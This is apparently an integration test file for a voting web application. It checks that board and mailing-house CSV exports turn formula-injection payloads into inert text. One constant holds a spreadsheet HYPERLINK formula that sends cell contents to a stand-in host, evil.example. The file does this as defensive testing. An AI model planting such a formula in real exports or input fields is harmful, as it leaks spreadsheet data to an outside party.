"""Formula injection: a title or a name typed by someone never runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Awaitable, Callable

import httpx

from tests.integration.box.conftest import VotingRound
from tests.integration.box.test_box_board import close
from tests.integration.box.test_box_cast import vote
from tests.integration.box.test_box_letters import upload
from tests.support.web import Account, login

MakeRound = Callable[..., Awaitable[VotingRound]]
MakeUser = Callable[..., Awaitable[Account]]
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


async def test_a_formula_title_is_defused_in_the_board_csv(
    client: httpx.AsyncClient, voting_round: MakeRound
) -> None:
    """A proposal titled =HYPERLINK(...) reaches /stemmen/ID/bord.csv as inert text."""
    from ballots.box import services
    from ballots.tables import BallotOption

    voting = await voting_round(codes=1)
    await BallotOption.update({BallotOption.title: EVIL}).where(
        BallotOption.round == voting.id, BallotOption.project_key == "P1"
    )
    services.forget_caches()
    await vote(client, voting.id, voting.codes[0], ["P1"])
    await close(voting.id)
    answer = await client.get(f"/stemmen/{voting.id}/bord.csv")
    assert answer.status_code == 200
    cells = _cells(answer.text)
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)


async def test_a_formula_name_is_defused_in_the_mailing_house_csv(
    client: httpx.AsyncClient, voting_round: MakeRound, make_user: MakeUser
) -> None:
    """A name in the address file that starts with = stays text in the mailing-house CSV."""
    voting = await voting_round(codes=0)
    await login(client, await make_user(role="staff"))
    addresses = f"postcode;huisnummer;naam\n9712 AB;1;{EVIL.replace(';', ',')}\n"
    response = await upload(client, voting.id, {"count": "", "output": "zip"}, addresses)
    assert response.status_code == 200, response.text
    bundle = zipfile.ZipFile(io.BytesIO(response.content))
    name = next(n for n in bundle.namelist() if n.endswith(".csv"))
    cells = _cells(bundle.read(name).decode())
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in cells)
